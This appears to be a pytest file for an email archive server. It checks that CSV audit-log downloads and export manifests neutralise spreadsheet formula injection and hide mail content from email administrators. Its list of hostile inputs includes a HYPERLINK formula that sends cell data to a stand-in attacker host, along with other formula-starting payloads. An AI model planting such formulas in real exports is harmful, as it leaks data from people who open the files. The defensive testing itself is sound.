"""The archive log's CSV download (page, API, CLI) against two insider attacks: spreadsheet
formula injection, and an email administrator reading mail content out of the details.

Every CSV is read twice, with the BOM stripped (``utf-8-sig``, what Excel does) and kept as the
first cell's prefix, so the neutralising cannot depend on where a reader starts.
"""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from flask import Flask

from server.audit.operations import Op
from server.config import Config
from server.csv_cells import FORMULA_START
from server.export.zipstream import MANIFEST_NAME, iter_zip
from server.model import Message
from server.users import Role
from server.web.context import services_of
from tests.support.web import api_token, running_app

RANGE = {"from": "2000-01-01", "to": "2100-01-01"}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "＝1+1"]


@pytest.fixture
def app(config: Config) -> Iterator[Flask]:
    with running_app(config, {"arch": Role.ARCHIVE_ADMIN, "mail": Role.EMAIL_ADMIN}) as app:
        log = services_of(app).audit_log
        for n, text in enumerate(HOSTILE):
            log.record(actor=text, role="", operation=Op.LOGIN_FAILED, target=text, source_ip="127.0.0.1")
            log.record(actor="arch", role="archive-admin", operation=Op.MESSAGE_VIEW, target=f"m{n}",
                       details={"subject": f"Q3 merger {text}"})  # fmt: skip
        log.record(actor="arch", role="archive-admin", operation=Op.ATTACHMENT_DOWNLOAD, target="m9",
                   details={"index": 0, "name": "layoffs-2025.xlsx", "sha256": "ab"})  # fmt: skip
        log.record(actor="arch", role="archive-admin", operation=Op.LEGAL_HOLD, target="1",
                   details={"name": "Case 7", "criteria": {"keyword": "project falcon", "from": "2024-01-01"}})  # fmt: skip
        log.record(actor="arch", role="archive-admin", operation=Op.SEARCH, details={"keyword": "falcon", "hits": 3})
        yield app


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    with_bom = list(csv.reader(io.StringIO(text)))
    without = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    return with_bom + without


def _download(app: Flask, user: str) -> str:
    response = app.test_client().get("/api/v1/audit.csv", query_string=RANGE, headers=api_token(app, user))
    assert response.status_code == 200
    return response.get_data(as_text=True)


def test_audit_csv_cells_never_start_a_formula(app: Flask) -> None:
    text = _download(app, "arch")
    cells = [cell for row in _rows(text) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in cells and "'+1+1" in cells  # neutralised, still readable


@pytest.mark.parametrize("user", ["mail", "arch"])
def test_audit_csv_redacts_content_for_email_admins_only(app: Flask, user: str) -> None:
    text = _download(app, user)
    secrets = ("Q3 merger", "layoffs-2025.xlsx", "project falcon", '"falcon"')
    if user == "mail":
        assert not [s for s in secrets if s in text]
        assert text.count("[redacted]") >= len(HOSTILE) + 3 and "Case 7" in text  # a hold's own name stays
    else:
        assert all(s in text for s in secrets)


def test_api_query_redacts_nested_and_attachment_names_for_email_admins(app: Flask) -> None:
    body = app.test_client().get("/api/v1/audit", query_string=RANGE, headers=api_token(app, "mail")).get_json()
    by_op = {r["operation"]: r["details"] for r in body["results"]}
    assert by_op["attachment_download"]["name"] == "[redacted]"
    assert by_op["legal_hold"]["criteria"] == {"keyword": "[redacted]", "from": "2024-01-01"}


def test_export_manifest_cells_never_start_a_formula() -> None:
    raw = b"Subject: x\r\n\r\nx\r\n"
    when = datetime(2025, 3, 14, tzinfo=UTC)
    messages = [Message(id=f"id{n}", sha256=hashlib.sha256(raw).hexdigest(), date=when, archived_at=when, size=len(raw),
                        message_id=text, subject=text, sender=text) for n, text in enumerate(HOSTILE)]  # fmt: skip
    data = b"".join(iter_zip(messages, lambda m: raw))
    manifest = zipfile.ZipFile(io.BytesIO(data)).read(MANIFEST_NAME).decode("utf-8")
    cells = [cell for row in _rows(manifest) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
